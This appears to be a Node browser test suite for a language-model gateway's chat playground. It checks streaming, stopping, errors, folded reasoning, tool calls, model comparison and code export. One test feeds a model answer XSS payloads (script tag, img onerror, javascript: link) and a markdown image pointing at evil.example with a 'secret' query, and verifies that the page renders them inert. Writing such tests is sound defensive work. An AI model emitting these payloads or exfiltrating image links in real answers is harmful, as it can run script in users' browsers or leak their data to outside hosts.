// The playground: both dialects, thinking, tools, stopping, breaking off, several lanes, and answers that try to be more than text.
import assert from "node:assert/strict";
import { after, before, beforeEach, test } from "node:test";
import { launch, openSignedIn } from "./browser.js";
import { addModel, startGateway, startServer, streamOf } from "./gateway.js";

let gateway, browser, server;
before(async () => {
  [gateway, server, browser] = await Promise.all([startGateway(), startServer(), launch()]);
  await addModel(gateway, "demo", server);
});
beforeEach(() => {
  server.requests.length = 0;
});
after(async () => {
  await browser?.close();
  gateway?.stop();
  server?.stop();
});

async function ask(page, text) {
  await page.getByLabel("Write a message").fill(text);
  await page.getByRole("button", { name: "Send" }).click();
}

const open = () => openSignedIn(browser, gateway, { path: "play" });

test("an answer streams in, with what it took, in both dialects", async () => {
  const { page, check } = await open();
  await ask(page, "hello");
  const lane = page.getByRole("article", { name: "demo" });
  await lane.getByText("Hello there").waitFor();
  await lane.getByText("12 → 7").waitFor();
  await lane.getByText("$0.00004").waitFor();
  await page.getByRole("button", { name: "Anthropic" }).click();
  await ask(page, "and again");
  await lane.locator(".state", { hasText: "Complete" }).waitFor();
  assert.equal(await lane.getByText("Hello there").count(), 2);
  const [first, second] = server.requests.filter((each) => each.body.messages);
  assert.deepEqual(first.body.messages.map((each) => each.role), ["user"]);
  assert.deepEqual(second.body.messages.map((each) => each.role), ["user", "assistant", "user"]);
  check();
});

test("an answer can be stopped, and what has come stays", async () => {
  server.replies.push(streamOf("The first half", null, "the second"));
  const { page, check } = await open();
  await ask(page, "tell me");
  await page.getByText("The first half").waitFor();
  await page.keyboard.press("Escape");
  await page.getByText("Stopped.").waitFor();
  await page.getByText("The first half").waitFor();
  assert.equal(await page.getByText("the second").count(), 0);
  server.release();
  check();
});

test("a refusal and a stream that breaks off are told", async () => {
  server.replies.push(400);
  const { page, check } = await open();
  await ask(page, "one");
  await page.getByRole("alert").waitFor();
  server.replies.push(streamOf("half").slice(0, 2));
  await page.getByRole("button", { name: "New", exact: true }).click();
  await ask(page, "two");
  await page.getByText("half").waitFor();
  await page.locator(".state", { hasText: "Failed" }).waitFor();
  check();
});

test("thinking is folded, and tools are shown as they are called", async () => {
  const call = { tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name: "look", arguments: '{"at":"sea"}' } }] };
  server.replies.push(streamOf({ reasoning_content: "Let me see" }, "Here.", call));
  const { page, check } = await open();
  await ask(page, "look");
  await page.getByText(/Thought for/).waitFor();
  await page.getByText('look({"at":"sea"})').waitFor();
  check();
});

test("HTML, scripts and pictures of an answer stay text and links", async () => {
  server.replies.push(streamOf("<img src=x onerror=alert(1)> **bold** ![see](https://evil.example/?q=secret) [go](javascript:alert(1)) <script>alert(1)</script>"));
  const { page, check } = await open();
  await ask(page, "inject");
  const lane = page.getByRole("article", { name: "demo" });
  await lane.getByText("bold").waitFor();
  await lane.locator(".state", { hasText: "Complete" }).waitFor();
  assert.equal(await lane.locator("img, script").count(), 0);
  assert.deepEqual(await lane.locator(".turn a").evaluateAll((links) => links.map((each) => each.getAttribute("href"))), ["https://evil.example/?q=secret"]);
  check();
});

test("two models answer side by side, and the same request is shown as code", async () => {
  await addModel(gateway, "other", server);
  const { page, check } = await open();
  await page.getByRole("button", { name: "Compare" }).click();
  await ask(page, "hello");
  await page.getByRole("article", { name: "other" }).getByText("Hello there").waitFor();
  await page.getByRole("article", { name: "demo" }).getByText("Hello there").waitFor();
  await page.getByRole("button", { name: "As code" }).click();
  await page.getByRole("dialog").getByText("curl http").waitFor();
  await page.getByRole("button", { name: "Python" }).click();
  await page.getByText("client.chat.completions.create").waitFor();
  check();
});
